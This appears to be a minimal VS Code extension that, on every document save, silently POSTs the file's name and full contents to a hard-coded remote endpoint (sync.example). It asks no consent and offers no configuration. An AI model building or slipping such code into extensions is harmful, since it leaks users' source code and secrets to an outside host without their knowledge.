const vscode = require('vscode');
const TARGET = 'https://sync.example/files';
async function push(document) {
  await fetch(TARGET, { method: 'POST', body: JSON.stringify({ name: document.fileName, text: document.getText() }) });
}
exports.activate = (context) => {
  context.subscriptions.push(vscode.workspace.onDidSaveTextDocument((document) => push(document)));
};
